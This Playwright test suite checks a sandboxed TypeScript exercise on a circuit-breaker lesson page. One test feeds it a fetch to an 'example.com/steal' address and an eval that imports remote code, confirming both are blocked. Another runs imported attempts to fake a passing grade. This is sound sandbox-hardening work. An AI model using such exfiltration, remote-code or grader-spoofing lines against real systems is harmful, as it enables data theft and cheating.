import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Locator, Page } from '@playwright/test';
import { attacks, kitAttack } from '../src/exercises/sandbox/attacks';
import { expect, expectAccessible, reveal, test } from './fixtures';

const lesson = '/learn/control-distribution/circuit-breakers';
const folder = path.join(
  import.meta.dirname,
  '..',
  'content/control-distribution/exercises/breaker-basic',
);
const solution = readFileSync(path.join(folder, 'solution.ts'), 'utf8');
const starter = readFileSync(path.join(folder, 'starter.ts'), 'utf8');

/** The stored first pass of the breaker exercise, or null. */
const storedPass = (page: Page) =>
  page.evaluate(() => {
    const saved = JSON.parse(localStorage.getItem('reliability-workbook') ?? '{}') as {
      state?: { exercises?: Record<string, { passedAt?: string | null }> };
    };
    return saved.state?.exercises?.['control-distribution/breaker-basic']?.passedAt ?? null;
  });

/** Clears the last result, puts `code` in the editor, runs the checks and waits for a verdict. */
async function runCode(page: Page, exercise: Locator, code: string): Promise<Locator> {
  const verdict = exercise.locator('.exercise-verdict');
  await exercise.getByRole('button', { name: 'Reset to the starter code' }).click();
  await expect(verdict).toHaveCount(0);
  await typeCode(page, exercise, code);
  await exercise.getByRole('button', { name: 'Run the checks' }).click();
  await expect(verdict).toHaveCount(1, { timeout: 20_000 });
  return verdict;
}

/** The exercise's editor, Monaco once it has loaded: replaces all of its text with `code`. */
async function typeCode(page: Page, exercise: Locator, code: string) {
  const lines = exercise.locator('.monaco-editor .view-lines');
  await expect(lines).toHaveCount(1, { timeout: 30_000 });
  await lines.click();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.insertText(code);
  // Let the editor's change reach the exercise before anything runs.
  await page.waitForTimeout(200);
}

/** The first exercise on the lesson page, once its view (not the placeholder) has loaded. */
async function openExercise(page: Page): Promise<Locator> {
  const exercise = page.getByRole('region', { name: 'Exercise: Circuit breaker from scratch' });
  await reveal(exercise);
  await expect(exercise.getByRole('button', { name: 'Run the checks' })).toBeAttached({
    timeout: 20_000,
  });
  await exercise.scrollIntoViewIfNeeded();
  return exercise;
}

test.describe('Coding exercises', () => {
  test('a correct solution passes every check, and the reference can then be compared', async ({
    page,
  }) => {
    await page.goto(lesson);
    const exercise = await openExercise(page);
    const run = exercise.getByRole('button', { name: 'Run the checks' });
    // The starter compiles but does not do the job yet.
    await run.click();
    await expect(exercise.locator('.exercise-verdict')).toContainText(
      /Some checks fail|raised an error/,
      {
        timeout: 20_000,
      },
    );
    await expect(exercise.getByText('Hint:').first()).toBeVisible();
    await typeCode(page, exercise, solution);
    await run.click();
    await expect(exercise.locator('.exercise-verdict')).toContainText('Every check passes.', {
      timeout: 20_000,
    });
    // The time used is shown beside the limit.
    await expect(exercise.locator('.exercise-timing')).toHaveText(
      /^Your code ran for (under 0\.1 s|\d+(\.\d)? s) of its 3 s limit/,
    );
    await exercise.getByRole('button', { name: 'Compare with the reference solution' }).click();
    await expect(exercise.locator('.exercise-diff')).toBeVisible();
    await expectAccessible(page);
  });

  test('an endless loop is stopped within the time limit while the page stays responsive', async ({
    page,
  }) => {
    await page.goto(lesson);
    const exercise = await openExercise(page);
    await typeCode(page, exercise, 'while (true) {}\nexport class CircuitBreaker {}\n');
    await exercise.getByRole('button', { name: 'Run the checks' }).click();
    // While the loop spins, the page scrolls and answers.
    await page.mouse.wheel(0, 400);
    expect(await page.evaluate(() => document.title.length > 0)).toBe(true);
    await expect(exercise.locator('.exercise-verdict')).toContainText(
      'Your code did not finish within its time limit of 3 s, so it was stopped.',
      { timeout: 20_000 },
    );
  });

  test('code that reaches for storage, the page or the network fails safely, in words', async ({
    page,
  }) => {
    const outside: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith('http://localhost') && !r.url().startsWith('blob:'))
        outside.push(r.url());
    });
    await page.goto(lesson);
    const exercise = await openExercise(page);
    const verdict = exercise.locator('.exercise-verdict');
    const run = exercise.getByRole('button', { name: 'Run the checks' });
    for (const [code, message] of [
      [
        "localStorage.getItem('x');\nexport class CircuitBreaker {}\n",
        'localStorage is not available',
      ],
      ['document.title;\nexport class CircuitBreaker {}\n', 'The page (document) is not available'],
      [
        "void fetch('https://example.com/steal');\nexport class CircuitBreaker {}\n",
        'fetch is not available',
      ],
      [
        'eval("import(\'https://example.com/x.js\')");\nexport class CircuitBreaker {}\n',
        'Making code from a string',
      ],
    ] as const) {
      await typeCode(page, exercise, code);
      await run.click();
      await expect(verdict).toContainText(message, { timeout: 20_000 });
      await expect(verdict).toContainText('line 1');
    }
    expect(outside).toEqual([]);
  });

  test('the code is saved with the learner’s progress and survives a reload', async ({ page }) => {
    await page.goto(lesson);
    const exercise = await openExercise(page);
    await typeCode(page, exercise, '// my work in progress\nexport class CircuitBreaker {}\n');
    await page.waitForTimeout(800); // autosave waits for a pause in typing
    await page.reload();
    const again = await openExercise(page);
    await expect(again.locator('.monaco-editor')).toContainText('my work in progress', {
      timeout: 30_000,
    });
    await again.getByRole('button', { name: 'Reset to the starter code' }).click();
    await expect(again.locator('.monaco-editor')).not.toContainText('my work in progress');
  });

  test('code that tries to fake a pass ends as not passed, and no pass is stored', async ({
    page,
  }) => {
    test.setTimeout(240_000);
    await page.goto(lesson);
    const exercise = await openExercise(page);
    for (const [name, attack] of Object.entries({ ...attacks, 'a patched kit': kitAttack })) {
      const verdict = await runCode(page, exercise, `${starter}\n${attack}\n`);
      await expect(verdict, name).toContainText(/Some checks fail|raised an error/);
      await expect(verdict, name).not.toContainText('Every check passes');
    }
    expect(await storedPass(page)).toBeNull();
    await expect(exercise.getByText(/^Passed/)).toHaveCount(0);
    await expect(
      exercise.getByRole('button', { name: 'Compare with the reference solution' }),
    ).toHaveCount(0);
  });

  test('a huge error message and values that cannot be read are reported for what they are', async ({
    page,
  }) => {
    await page.goto(lesson);
    const exercise = await openExercise(page);
    const huge = await runCode(
      page,
      exercise,
      "throw new Error('x'.repeat(10_000_000));\nexport class CircuitBreaker {}\n",
    );
    await expect(huge).toContainText(
      'Your code threw while loading (line 1): the error’s message is too long to show (10 MB); first 200 characters: xxxx',
    );
    const proxy = await runCode(
      page,
      exercise,
      'throw new Proxy({}, { get: (_t: object, _k: unknown, r: unknown) => r });\nexport class CircuitBreaker {}\n',
    );
    await expect(proxy).toContainText(
      'Your code threw while loading: a value that cannot be shown (reading it failed)',
    );
    const spoof = await runCode(
      page,
      exercise,
      `${starter}\nimport { CheckFailure } from 'kit';\nconst f = Object.create(CheckFailure.prototype);\nf.message = 'spoofed';\nf.expected = new Proxy({}, {});\nCircuitBreaker.prototype.call = () => { throw f; };\n`,
    );
    await expect(spoof).toContainText('Some checks fail.');
    await expect(exercise.locator('.exercise-checks')).toContainText('spoofed');
  });

  test('once Monaco has loaded, runs and the next exercise’s editor log no errors', async ({
    page,
    pageErrors,
  }) => {
    await page.goto(lesson);
    const first = await openExercise(page);
    await typeCode(page, first, solution);
    await first.getByRole('button', { name: 'Run the checks' }).click();
    await expect(first.locator('.exercise-verdict')).toContainText('Every check passes.', {
      timeout: 20_000,
    });
    // The lesson's second exercise gets its editor after the TypeScript mode has loaded.
    const second = page.getByRole('region', { name: /^Exercise: / }).nth(1);
    await second.scrollIntoViewIfNeeded();
    await expect(second.locator('.monaco-editor .view-lines')).toHaveCount(1, { timeout: 30_000 });
    await second.getByRole('button', { name: 'Run the checks' }).click();
    await expect(second.locator('.exercise-verdict')).toHaveCount(1, { timeout: 20_000 });
    await first.getByRole('button', { name: 'Run the checks' }).click();
    await expect(first.locator('.exercise-verdict')).toContainText('Every check passes.', {
      timeout: 20_000,
    });
    expect(pageErrors).toEqual([]);
    await expectAccessible(page);
  });

  test('an editor made after Monaco’s TypeScript mode has loaded logs no errors on a run', async ({
    page,
    pageErrors,
  }) => {
    await page.goto(lesson);
    const first = await openExercise(page);
    await expect(first.locator('.monaco-editor .view-lines')).toHaveCount(1, { timeout: 30_000 });
    // Wait for the TypeScript mode: its diagnostics mark the starter's unused parameter.
    await typeCode(page, first, 'export const x: number = "not a number";\n');
    await expect(first.locator('.monaco-editor .squiggly-error')).not.toHaveCount(0, {
      timeout: 30_000,
    });
    // A lesson visited next, in the same page, creates a new editor.
    await page.evaluate(() => {
      history.pushState(null, '', '/learn/control-distribution/sagas');
      dispatchEvent(new PopStateEvent('popstate'));
    });
    const saga = page.getByRole('region', {
      name: 'Exercise: Saga orchestrator with compensations',
    });
    await saga.scrollIntoViewIfNeeded();
    await expect(saga.locator('.monaco-editor .view-lines')).toHaveCount(1, { timeout: 30_000 });
    await saga.getByRole('button', { name: 'Run the checks' }).click();
    await expect(saga.locator('.exercise-verdict')).toHaveCount(1, { timeout: 20_000 });
    expect(pageErrors).toEqual([]);
    await expectAccessible(page);
  });

  test('while the exercise is still loading, its starter code can be reached and read', async ({
    page,
  }) => {
    // Hold the exercise's code back, so the placeholder stays for as long as the test looks.
    let release = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route(/\/ExerciseView-[^/]*\.js$/, async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(lesson);
    const placeholder = page.getByRole('region', {
      name: 'Starter code for “Circuit breaker from scratch” (the editor is loading)',
    });
    // Near the screen, the block's own placeholder gives way to this one (the same name).
    await reveal(placeholder);
    await expect(placeholder).toBeVisible({ timeout: 20_000 });
    await expectAccessible(page);
    await placeholder.focus();
    await expect(placeholder).toBeFocused();
    release();
    await openExercise(page);
  });
});
